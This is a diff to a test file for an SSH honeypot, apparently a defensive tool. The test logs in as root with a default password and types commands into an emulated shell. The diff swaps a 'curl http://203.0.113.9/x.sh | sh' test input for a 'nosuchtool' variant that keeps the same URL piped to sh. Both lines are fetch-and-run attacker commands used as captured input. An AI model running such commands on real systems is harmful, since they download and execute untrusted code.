@@ -85,7 +85,7 @@ describe('ssh honeypot with the OpenSSH client', () => {
     expect(h.ofKind('auth').some((a) => a.data.password === 'toor' && a.data.success === true)).toBe(true);
   });
 
-  it('runs an interactive pty shell that answers from the static table', async () => {
+  it('runs an interactive pty shell on the emulated filesystem', async () => {
     const child = spawn('ssh', ['-tt', ...sshFlags, `root@${ip}`], {
       env: { ...process.env, ...sshEnv('toor') },
       stdio: ['pipe', 'pipe', 'pipe'],
@@ -96,15 +96,15 @@ describe('ssh honeypot with the OpenSSH client', () => {
     await eventually(() => out.includes('root@web-01:~# '), { what: 'shell prompt' });
     child.stdin.write('ls /\n');
     await eventually(() => out.includes('lost+found'), { what: 'ls / output' });
-    child.stdin.write('curl http://203.0.113.9/x.sh | sh\n');
-    await eventually(() => out.includes('-bash: curl: command not found'), { what: 'unknown command reply' });
+    child.stdin.write('nosuchtool http://203.0.113.9/x.sh | sh\n');
+    await eventually(() => out.includes('-bash: nosuchtool: command not found'), { what: 'unknown command reply' });
     child.stdin.write('exit\n');
     expect(await exited).toBe(0);
     const typed = h
       .ofKind('command')
       .filter((c) => c.data.mode === 'shell')
       .map((c) => c.data.command);
-    expect(typed).toEqual(expect.arrayContaining(['ls /', 'curl http://203.0.113.9/x.sh | sh', 'exit']));
+    expect(typed).toEqual(expect.arrayContaining(['ls /', 'nosuchtool http://203.0.113.9/x.sh | sh', 'exit']));
   });
 
   it('records a non-SSH client as malformed and keeps serving', async () => {
